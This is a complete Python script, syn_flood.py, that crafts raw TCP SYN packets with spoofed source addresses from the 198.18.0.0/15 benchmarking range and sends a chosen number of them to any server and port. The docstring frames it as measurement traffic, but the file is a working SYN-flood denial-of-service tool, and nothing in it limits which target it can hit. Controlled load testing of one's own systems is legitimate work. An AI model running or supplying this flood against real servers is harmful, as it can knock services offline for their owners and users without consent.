"""
syn_flood.py SERVER PORT COUNT

Sends COUNT SYNs over IPv4 from addresses and ports that nobody has (198.18.0.0/15 is for
measurements, RFC 2544), each with an initial sequence number of its own.
"""
import socket, struct, sys

server, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
destination = socket.inet_aton(server)
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


for index in range(count):
    source = struct.pack("!I", 0xc6120001 + index)
    fields = (1024 + index, port, 0x10000000 + index * 0x1000, 0, 5 << 4, 0x02, 64240)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    tcp = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    tcp = struct.pack("!HHIIBBHHH", *fields, checksum(pseudo + tcp), 0)
    # The kernel fills in the header's checksum.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    sender.sendto(ip + tcp, (server, 0))
